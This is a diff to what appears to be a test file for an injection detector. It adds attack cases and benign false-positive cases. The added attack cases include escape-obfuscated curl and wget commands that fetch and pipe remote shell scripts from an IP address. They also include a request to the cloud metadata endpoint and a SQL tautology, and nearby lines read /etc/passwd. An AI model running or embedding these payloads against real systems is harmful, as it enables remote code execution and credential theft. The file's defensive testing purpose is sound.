@@ -583,6 +583,18 @@ export const ATTACKS: DetectorCase[] = [
   q("a column closing the app's SUM( into another table", "amount_cents) FROM users WHERE admin = true; --", "942200"),
   q("a shell word joined across a line continuation", "/volume1/backup;ca\\\nt /etc/pa\\\nsswd", "932150"),
   q("mathematical letters and fullwidth quotes NFKC folds to a tautology", "admin＇ 𝖮𝖱 ＇１＇＝＇１", "942100"),
+  q(
+    "a command spelled in ANSI-C octal escapes",
+    "$'\\143\\165\\162\\154' -s http://45.10.20.3/c.sh | $'\\163\\150'",
+    "rce",
+  ),
+  q("a command spelled in ANSI-C hex escapes", "$'\\x77\\x67\\x65\\x74' http://45.10.20.3/m.sh", "rce"),
+  q(
+    "a metadata address after a user part, without a scheme",
+    "stores/7wt5m@169.254.169.254/latest/meta-data#",
+    "934110",
+  ),
+  q("a refinement's own name= before a tautology", "cgid=mens' OR '1'='1", "942100"),
 ];
 
 export const BENIGN: DetectorCase[] = [
@@ -596,6 +608,21 @@ export const BENIGN: DetectorCase[] = [
   q("sites listed by domain", "google.com,flipkart.co.in,bbc.co.uk"),
   j("a drawing's scale", `1/4" = 1'-0"`),
   q("SigV4's signed header list", "content-type;host;x-amz-date"),
+  j(
+    "an alarm's text with a number pair in parentheses",
+    "Isolation fault, Riso < 100k on MPPT 4 (strings 4.1/4.2). Recurs.",
+  ),
+  q("a date in parentheses after a word a shell knows", "(touch 14/05/2024)"),
+  q("a filter whose literal its own name= quotes", "STATE_NAME='Texas' AND POP2020 > 100000"),
+  q("a where clause with a double-quoted literal", 'genre="Platanus" and circonference >= 400'),
+  j(
+    "Magento's e-mail directives with variables and output filters",
+    '{{trans "%name," name=$order_data.customer_name}} {{var formattedShippingAddress|raw}} {{layout handle="sales_email_order_items" order_id=$order_id area="frontend"}}',
+  ),
+  j(
+    "B2C Commerce's content markup",
+    "<a href=\"$url('Page-Show','cid','privacy-policy')$\">Privacy</a> $include('Page-Include','cid','footer')$",
+  ),
   q("a parenthesis closing a phrase before words about stores", "revenue) from stores where sales > 100"),
   j("an i18n helper with a key", 'Welcome, {{t "greeting.title"}} {{user.name}}'),
   j("a dimension and its scale", `VERIFY 2'-6" CLR @ DOOR; scale 3/8" = 1'`),
